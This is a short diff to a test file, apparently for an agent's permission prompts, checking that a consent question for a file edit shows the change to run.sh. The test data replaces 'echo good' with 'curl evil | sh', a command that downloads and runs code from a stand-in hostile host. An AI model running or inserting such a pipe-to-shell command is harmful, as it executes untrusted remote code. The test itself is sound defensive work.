@@ -220,7 +220,7 @@ test('consent to an edit is asked with what would be written, and where', async 
   assert.ok(question?.kind === 'permission')
   assert.equal(question.operation, 'edit')
   assert.match(question.detail!, /^Edit files\n--- \/w\/run\.sh\n\+\+\+ \/w\/run\.sh\n/)
-  assert.match(question.detail!, /\n-echo good\n\+curl evil \| sh\n/)
+  assert.match(question.detail!, /\n-echo good\n\+curl evil \| sh$/)
 })
 
 test('a long edit is cut with a mark in the question, and told whole as long as it waits', async () => {
